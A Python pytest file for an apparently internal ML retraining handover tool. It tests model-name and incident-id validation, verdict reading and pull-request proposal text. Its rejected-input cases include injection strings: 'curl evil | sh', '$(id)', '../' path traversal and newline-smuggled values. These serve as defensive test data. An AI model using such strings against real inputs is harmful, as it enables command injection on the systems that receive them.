"""Names from outside are checked, verdicts are read, and a proposal fits into a pull request."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mooring.delivery.handover.errors import NotAModel, NotAnIncident, NoVerdict, Unreadable
from mooring.delivery.handover.retraining import (
    LONGEST_BODY,
    choose_incident,
    choose_models,
    find_card,
    proposal,
    read_verdict,
)

NEW, OLD = "b" * 64, "a" * 64


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for name in ("alpha", "beta"):
        (tmp_path / "models" / name).mkdir(parents=True)
        (tmp_path / "models" / name / "pipeline.py").touch()
    (tmp_path / "models" / "notes").mkdir()
    return tmp_path


def test_nothing_asked_for_is_every_released_model(root: Path) -> None:
    assert choose_models(root, "") == []
    write_champion(root, OLD)
    assert choose_models(root, "") == ["alpha"]


def test_without_a_log_nothing_is_trained_unless_it_is_asked_for(root: Path) -> None:
    write_champion(root, OLD)
    assert choose_models(root, "", has_log=False) == []
    assert choose_models(root, "alpha", has_log=False) == ["alpha"]


def test_one_asked_for_is_that_one(root: Path) -> None:
    assert choose_models(root, "beta") == ["beta"]


@pytest.mark.parametrize(
    "asked",
    [
        pytest.param("gamma", id="unknown"),
        pytest.param("notes", id="a folder that is no model"),
        pytest.param("alpha ", id="a blank"),
        pytest.param("alpha\nmodels=[]", id="a line more"),
        pytest.param("../models/alpha", id="a path"),
        pytest.param('alpha"; curl evil | sh; "', id="a script"),
        pytest.param("$(id)", id="a command"),
        pytest.param("--all", id="an option"),
    ],
)
def test_what_is_no_model_is_refused_and_not_repeated(asked: str, root: Path) -> None:
    with pytest.raises(NotAModel, match="Known: alpha, beta") as refused:
        choose_models(root, asked)
    assert asked not in str(refused.value)


def said(root: Path, **facts: object) -> Path:
    path = root / "verdict.json"
    path.write_text(json.dumps(facts))
    return path


def write_champion(root: Path, bundle: str | None) -> None:
    champion = None if bundle is None else {"bundle": bundle}
    (root / "models/alpha/release.json").write_text(json.dumps({"champion": champion}))


@pytest.mark.parametrize(
    ("verdict", "champion", "propose"),
    [
        pytest.param("blessed", OLD, True, id="a better one is proposed"),
        pytest.param("blessed", None, True, id="a first one is proposed"),
        pytest.param("blessed", NEW, False, id="the champion itself is not"),
        pytest.param("not_blessed", OLD, False, id="one that is not blessed is not"),
        pytest.param("failed", OLD, False, id="a failure is not"),
    ],
)
def test_what_is_proposed(verdict: str, champion: str | None, propose: bool, root: Path) -> None:
    write_champion(root, champion)
    found = read_verdict(root, "alpha", said(root, outcome=verdict, bundle=NEW))
    assert found.propose is propose
    assert found.champion == (champion or "")


def test_a_model_without_a_release_has_no_champion(root: Path) -> None:
    found = read_verdict(root, "alpha", said(root, outcome="blessed", bundle=NEW))
    assert found.champion == ""


@pytest.mark.parametrize(
    "facts",
    [
        pytest.param({"error": {"kind": "NotRetrainable"}}, id="an error"),
        pytest.param({"outcome": "blessed", "bundle": "b\nbundle=x"}, id="no id"),
        pytest.param({}, id="nothing"),
    ],
)
def test_a_retrain_that_failed_is_no_verdict(facts: dict[str, object], root: Path) -> None:
    with pytest.raises(NoVerdict):
        read_verdict(root, "alpha", said(root, **facts))
    with pytest.raises(NoVerdict):
        read_verdict(root, "alpha", root / "missing.json")


def test_a_proposal_holds_the_comparison_and_the_card_as_far_as_they_fit() -> None:
    text = proposal("# Card\n", "roc_auc 0.70 0.71\n", "i-7")
    assert text.index("roc_auc 0.70 0.71") < text.index("# Card")
    # As the monitor looks for it.
    assert "i-7" in text.split()
    assert "Compared" not in proposal("# Card\n", "", "i-7")
    assert len(proposal("x" * 70_000, "", "i-7")) < LONGEST_BODY + 200


@pytest.mark.parametrize(
    ("asked", "incident"),
    [
        pytest.param("0193-a.b_c", "0193-a.b_c", id="an incident's id is kept"),
        pytest.param("", "run-4711", id="nobody asks: the run itself"),
    ],
)
def test_who_asks(asked: str, incident: str) -> None:
    assert choose_incident(asked, "4711") == incident


@pytest.mark.parametrize("asked", ["../up", "a b", "i\nmodels=[]", "$(id)", "i" * 200])
def test_an_incident_that_is_no_plain_name_is_refused_and_not_repeated(asked: str) -> None:
    with pytest.raises(NotAnIncident, match="no plain name") as refused:
        choose_incident(asked, "4711")
    assert asked not in str(refused.value)


def test_there_is_one_card(tmp_path: Path) -> None:
    with pytest.raises(Unreadable, match="not one card"):
        find_card(tmp_path)
    (tmp_path / "card.md").write_text("# Card\n")
    assert find_card(tmp_path) == "# Card\n"
